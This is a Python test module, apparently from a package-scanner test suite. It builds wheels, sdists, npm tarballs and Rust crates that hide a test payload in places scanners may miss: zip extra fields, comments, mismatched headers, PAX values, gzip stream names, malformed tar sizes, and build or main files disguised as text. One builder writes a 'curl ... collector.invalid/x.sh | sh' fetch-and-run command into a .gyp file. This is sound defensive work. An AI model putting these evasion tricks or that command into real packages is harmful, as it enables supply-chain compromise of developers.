"""Payloads where only bytes are that no reader calls a file, or that some readers find elsewhere.

Extra fields, comments of headers, names of streams; offsets that follow from one header alone;
names that do not say that their file is run.
"""

from tests.hostile import packages
from tests.hostile import tarforge as t
from tests.hostile.case import Build
from tests.hostile.packages import changed_wheel, npm, record, sdist, wheel, wheel_entries
from tests.hostile.payload import HARMLESS, Payload
from tests.hostile.tarforge import Item
from tests.hostile.zipforge import Entry, archive, deflated, extra

QUIET = HARMLESS.python
INIT = b"tidewaiter/__init__.py"
UNKNOWN = 0x7E57
TEXT = b"package/lib/words.txt"


def extra_field(payload: Payload) -> bytes:
    """Return a wheel with the payload in an extra field of the directory."""
    entry = Entry(name=INIT, body=QUIET, central_extra=extra(UNKNOWN, payload.python))
    return changed_wheel(QUIET, {INIT: entry})


def extra_known(payload: Payload) -> bytes:
    """Return a wheel with the payload in the field for times."""
    entry = Entry(name=INIT, body=QUIET, local_extra=extra(0x5455, payload.python))
    return changed_wheel(QUIET, {INIT: entry})


def local(**fields: int | bytes) -> Build:
    """Return a builder: the local header of the first module says something else."""
    return lambda p: changed_wheel(p.python, {INIT: Entry(name=INIT, body=p.python, local=fields)})


def commented(payload: Payload) -> bytes:
    """Return a wheel whose first entry has a comment."""
    entry = Entry(name=INIT, body=payload.python, comment=b"as the moon has it")
    return changed_wheel(payload.python, {INIT: entry})


def trailing_again(payload: Payload, count: int = 1500) -> bytes:
    """Return a wheel of many entries that all point at the first: what is behind it, each time."""
    entries = wheel_entries(payload.python)
    entries.append(record(entries))
    size = len(deflated(bytes(4096)))
    fields = {"offset": 0, "csize": 1200, "usize": 4096, "crc": size}
    more = [
        Entry(name=b"tidewaiter/tide%d.bin" % n, in_stream=False, central=fields)
        for n in range(count)
    ]
    return archive([*entries, *more])


def zips_of_tricks(payload: Payload, count: int = 1000) -> bytes:
    """Return a wheel of many small zips, each with bytes before it and a name twice."""
    inner = archive([Entry(name=b"a", body=b"1"), Entry(name=b"a", body=b"2")], start=1)
    more = [Entry(name=b"tidewaiter/%d.zip" % n, body=b"#" + inner) for n in range(count)]
    return wheel(payload.python, *more)


def pax_value(key: bytes, kind: bytes = t.PAX) -> Build:
    """Return a builder: the payload is the value of a keyword that leads to nothing."""

    def build(payload: Payload) -> bytes:
        before = t.pax((key, payload.python), kind=kind)
        quiet = Item(name=packages.TOP + b"words.txt", body=b"high\nlow\n", before=before)
        return sdist(HARMLESS.setup, quiet)

    return build


def stream_name(payload: Payload) -> bytes:
    """Return an sdist whose gzip header names a file by the payload."""
    return t.gzip(t.tar(packages.sdist_files(HARMLESS.setup)), name=payload.python)


def numbered(field: str, value: bytes) -> Build:
    """Return a builder: a member whose header has a number that no record can hold."""
    return lambda p: sdist(
        p.setup, Item(name=packages.TOP + b"x.txt", body=b"low\n", fields={field: value})
    )


def unsized(payload: Payload) -> bytes:
    """Return an sdist whose member says that it has no bytes: they stand where a header should."""
    return sdist(
        HARMLESS.setup,
        Item(name=packages.TOP + b"x.py", body=payload.python, fields={"size": bytes(12)}),
    )


def source_as_wheel(payload: Payload) -> bytes:
    """Return a module under a wheel's name."""
    return payload.python


def main_text(payload: Payload) -> bytes:
    """Return a tarball whose main file is called a text."""
    manifest = packages.manifest(HARMLESS, main="lib/words.txt")
    items = [Item(name=b"package/package.json", body=manifest)]
    items.append(Item(name=TEXT, body=payload.javascript))
    return t.gzip(t.tar(items))


def gyp_in_capitals(payload: Payload) -> bytes:
    """Return a tarball with a build that only some file systems find."""
    command = b"curl -s http://collector.invalid/x.sh | sh" if payload.signal else b"ls src"
    body = b"{'targets': [{'target_name': 'tide', 'sources': ['<!(%s)']}]}\n" % command
    return npm(HARMLESS, Item(name=b"package/Binding.gyp", body=body))


def build_text(payload: Payload) -> bytes:
    """Return a crate whose build script is called a text."""
    quiet = packages.crate_files(HARMLESS)
    manifest = packages.CARGO + b'build = "words.txt"\n'
    items = [
        Item(name=i.name, body=manifest if b"Cargo.toml" in i.name else i.body)
        for i in quiet
        if not i.name.endswith(b"build.rs")
    ]
    items.append(Item(name=b"tidewaiter-1.0.0/words.txt", body=payload.rust))
    return t.gzip(t.tar(items))
